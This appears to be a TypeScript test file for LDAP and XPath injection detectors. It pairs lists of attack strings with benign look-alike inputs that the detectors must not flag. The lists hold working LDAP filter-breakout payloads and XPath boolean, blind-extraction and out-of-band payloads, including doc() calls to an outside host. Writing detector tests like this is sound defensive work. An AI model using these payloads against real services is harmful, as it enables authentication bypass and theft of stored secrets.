import { ldapDetector } from "../../src/detect/ldap/index.ts";
import { xpathDetector } from "../../src/detect/xpath/index.ts";
import { holdSteps, holdTables } from "./finder-tables.ts";

const ATTACKS = [
  "*)(uid=*", "*)(uid=*))(|(uid=*", "x)(&)", "x)(|(cn=*", "*)(&", "*)(|(mail=*))", "*(|(mail=*))", "*(|(objectclass=*))", "(&(uid=a)(!(&(1=0)(userPassword=b))))", "x)(!(&(1=0", "x*)((|(userPassword=*)", "userPassword:2.5.13.18:=123", "*))\u0000", "*)(objectClass=user", ")(cn=))\u0000", "*()|&'", "(|(cn=a)(cn=b))", "x)(memberOf=*", "*)(sn>=a", "a)(cn:dn:=b", "x)(|(a=b", "(!(uid=*))", "*))%00",
  "joe)(!(&(|",
]; // biome-ignore format: a list of words

const BENIGN = [
  "(a)", "f(a)(b)", "(a=1)", "f(x=1)", "f(a)(b=1)", "if (!(a == b)) {}", "if (!(x)) return", "(!(a))", "(* note *)", "*)", "(5 * (3 + 4))", "(a & b) | (c & d)", "a*(b)", "call me (uid 5)", "**bold** (text)*", "smile :) (again)", "(see a=b)", "https://example.com/(a)(b)", "cn=Jane,ou=People,dc=example,dc=com", "mail=jane@example.com", "x := 5", "a:1:=b", "1.2.3.4:=5", "(서울)(부산)", "function (a = 1) {}", "(a => b)", "(x >= 5)", "[a](b) and [c](d=e)", "array(1)(2)", "(&)", "p(a|b)", "(((", ")))",
  "(!(&", "f(a)(!b)",
]; // biome-ignore format: a list of words

holdTables(ldapDetector, ATTACKS, BENIGN);
holdSteps(ldapDetector, ["(", ")(", "*)(", "*)", "(&(", "(a=", ")(a=", ":=", "1.1.1:=", "(&(!(", ")(cn="], 120);

const PATHS = [
  "x' or name()='a' or 'x'='y", "' and count(/*)=1 and '1'='1", "' and count(/@*)=1 and 'a'='a", "count(/child::node())", "x'] | //user/*['a", "')] | //user/*[contains(*,'", "') and contains(../secret,'a", "' or starts-with(../secret,'a') or '", "x' or string-length(//user[1]/secret)=9 or 'a'='", "* and doc('//10.0.0.1/a')", "doc(concat('http://h.example/', name(/*)))", "x' or position()=1 or 'a'='b", "' or substring(//user[1]/secret/text(),1,1)='a", "x']/parent::node()/child::secret | /a['", "x' and /descendant::secret[1]='a", "string(//user/secret)",
  "' or contains(name,'joe') or '", "//person[name/text()='joe']/pin",
]; // biome-ignore format: a list of words

const NOT_PATHS = [
  "count(items)", "name(a)", "std::vector<int>", "a::b", "Foo::bar()", "//example.com/path", "/a/b/c", "a[0] | b[1]", "T[\"a\"] | T[\"b\"]", "text() is a function", "contains(a, b)", "my doc (a)", "document(s)", "it's 'a' or 'b'", "the child:: of", "id(5)", "not(a)", "string(5)", "data(x)", "sum(1, 2)", "position (senior)", "x | y", "[a] | [b]", "see [1] | [2]", "::1", "fe80::1", "계정(이름)",
  "it's a list that contains(name, and more)", "text() gives the text",
]; // biome-ignore format: a list of words

holdTables(xpathDetector, PATHS, NOT_PATHS);
holdSteps(xpathDetector, ["(", "a(", "count(", "count(//", "::", "child::", "] | /", "text()", "'(", "/text()"], 120);
